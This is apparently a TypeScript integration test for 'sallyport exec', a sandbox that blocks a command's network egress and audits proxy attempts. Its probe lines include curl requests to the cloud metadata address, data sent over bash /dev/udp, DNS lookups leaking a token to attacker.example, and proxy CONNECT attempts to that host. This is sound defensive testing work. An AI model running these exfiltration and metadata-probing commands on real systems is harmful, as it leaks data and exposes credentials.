// `sallyport exec`: what arrives from a command without the wall does not with it, and what is tried by the proxy is recorded. Everything
// is in a network namespace, whose loopback has the addresses that stand for the rest of the world.

import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createInterface } from "node:readline";
import type { Readable } from "node:stream";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { auditRecords } from "../support/audit-records.ts";
import { type Namespace, openNamespace } from "./namespace.ts";
import { describeWith, findPython } from "./sandbox.ts";
import { disposeAll, temporary } from "./suite.ts";

/** Of documentation's networks, and the metadata address. */
const [V4, V6, METADATA] = ["198.51.100.7", "2001:db8:213::7", "169.254.169.254"];
const get = (address: string): string => `curl -sS -m 2 --noproxy '*' 'http://${address}/'`;
const send = (address: string, port: string, octets = "the-code"): string =>
  `bash -c "printf '${octets}' >/dev/udp/${address}/${port}"`;
const ask = (server: string): string => `dig +time=1 +tries=1 @${server} the-code.attacker.example`;
const python = (script: string): string => `$PYTHON -c 'from socket import *; ${script}'`;
const ping = (kind: string): string =>
  python(`socket(AF_INET, ${kind}, IPPROTO_ICMP).sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("${V4}", 0))`);

const PROBES: readonly (readonly [line: string, sign: string])[] = [
  [get(V4), "tcp 80"],
  [get("127.0.0.1"), "tcp 80"],
  [get(`[${V6}]`), "tcp 80"],
  [get("[::1]"), "tcp 80"],
  [get(METADATA), "tcp 80"],
  // The API of a proxy that runs there.
  [get("127.0.0.1:9128"), "tcp 9128"],
  [send(V4, "9"), "udp 9"],
  [send(V6, "9"), "udp 9"],
  [send(V4, "443", String.raw`\300\032\052\072\112\010sallypor\010doctored`), "udp 443"],
  [ask(V4), "udp 53"],
  [ask(V6), "udp 53"],
  // Where systemd's resolver listens.
  [ask("127.0.0.53"), "udp 53"],
  [ping("SOCK_DGRAM"), "icmp"],
  [ping("SOCK_RAW"), "icmp"],
  [python(`socket(AF_UNIX).connect("\\0sallyport-test")`), "unix sallyport-test"],
];
const SERVICES = ["tcp:80", "tcp:9128", "udp:9", "udp:53", "udp:443", "icmp", "unix:sallyport-test"];

/** What a policy cannot have meant, asked for and by a tunnel; what the records say. */
const ATTEMPTS: readonly (readonly [method: "GET" | "CONNECT", authority: string, reason: string])[] = [
  ["GET", "127.0.0.1:9128", "address-literal"],
  ["CONNECT", "127.0.0.1:9128", "address-literal"],
  ["CONNECT", "[::1]:9128", "address-literal"],
  ["CONNECT", "localhost:9128", "host-not-allowed"],
  ["CONNECT", "sallyport.internal:9128", "port-not-allowed"],
  ["GET", `${METADATA}:80`, "address-literal"],
  ["CONNECT", `${METADATA}:80`, "address-literal"],
  ["GET", `${V4}:80`, "address-literal"],
  ["CONNECT", `${V4}:53`, "address-literal"],
  ["CONNECT", `[${V6}]:443`, "address-literal"],
  ["CONNECT", "the-code.attacker.example:443", "host-not-allowed"],
  ["GET", "inside.test:80", "address-metadata"],
];

describeWith("exec", ["root", "namespaces", "curl", "dig", "ip", "python3"], () => {
  const open: AsyncDisposable[] = [];
  let home: string;
  let namespace: Namespace;
  let world: ChildProcess;
  const all: string[] = [];

  beforeAll(async () => {
    const files = await temporary("sallyport-exec-");
    open.push(files);
    home = files.path;
    writeFileSync(join(home, "sallyport.yaml"), CONFIG);
    namespace = await openNamespace({ home, routed: false, variables: { PYTHON: findPython() } });
    open.push(namespace);
    const ip = (...args: string[]): void => void execFileSync("ip", ["-n", namespace.name, ...args]);
    for (const address of [V4, METADATA]) ip("addr", "add", `${address}/32`, "dev", "lo");
    ip("addr", "add", `${V6}/128`, "dev", "lo", "nodad");
    const inside = ["netns", "exec", namespace.name];
    execFileSync("ip", [...inside, "sysctl", "-q", "-w", "net.ipv4.ping_group_range=0 0"]);
    world = spawn("ip", [...inside, findPython(), EVERYWHERE, ...SERVICES], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    const lines = createInterface({ input: world.stdout as Readable });
    await once(lines, "line");
    lines.on("line", (line) => void all.push(line));
  });
  afterAll(async () => {
    if (world !== undefined) {
      world.kill();
      await once(world, "exit");
    }
    await disposeAll(open);
  });

  /** What arrived of these lines. */
  async function from(options: readonly string[], lines: readonly string[]) {
    const before = all.length;
    const ran = await namespace.run([
      process.execPath,
      MAIN,
      "exec",
      ...options,
      "--",
      "sh",
      "-c",
      lines.join("\n"),
    ]);
    // What was sent before this arrived before it.
    await namespace.run(["sh", "-c", send("127.0.0.1", "443")]);
    await expect.poll(() => all.slice(before)).toContain("udp 443");
    return { ran, arrived: all.slice(before) };
  }

  test("what arrives from a command without the wall does not with it", async () => {
    const lines = PROBES.map(([line]) => line);
    const walled = await from([], lines);
    expect(walled.arrived).toEqual(["udp 443"]);
    const signs = PROBES.map(([, sign]) => sign);
    const free = await from(["--no-wall"], lines);
    expect(free.arrived, free.ran.seen).toEqual([...signs, "udp 443"]);
  });

  test("what it tries by the proxy is refused, arrives nowhere, and is recorded", async () => {
    const lines = ATTEMPTS.map(
      ([method, authority]) =>
        `curl -sS -m 5 --noproxy none.test ${method === "GET" ? "" : "--proxytunnel"} 'http://${authority}/'`,
    );
    const tried = await from([], lines);
    expect(tried.arrived).toEqual(["udp 443"]);
    const kept = join(home, ".local/state/sallyport/exec");
    const records = await auditRecords(join(kept, readdirSync(kept).toSorted().at(-1) ?? "", "audit"));
    const decided = records.filter(({ type }) => type === "decision");
    expect(decided.map(({ method, host, port, reason }) => [method, [host, port].join(":"), reason])).toEqual(
      ATTEMPTS.map(([method, authority, reason]) => [method, authority.replaceAll(/[[\]]/g, ""), reason]),
    );
    expect(tried.ran.stderr.match(/^  [A-Z]+ .*-/gm)).toHaveLength(ATTEMPTS.length);
  });
});

const CONFIG = `anonymous: default
upstream: { hosts: { inside.test: ["${METADATA}"] } }
policies: { default: { preset: none, allow: [{ host: inside.test, ports: [80] }] } }
`;
const MAIN = fileURLToPath(new URL("../../src/cli/main.ts", import.meta.url));
const EVERYWHERE = fileURLToPath(new URL("../support/everywhere.py", import.meta.url));
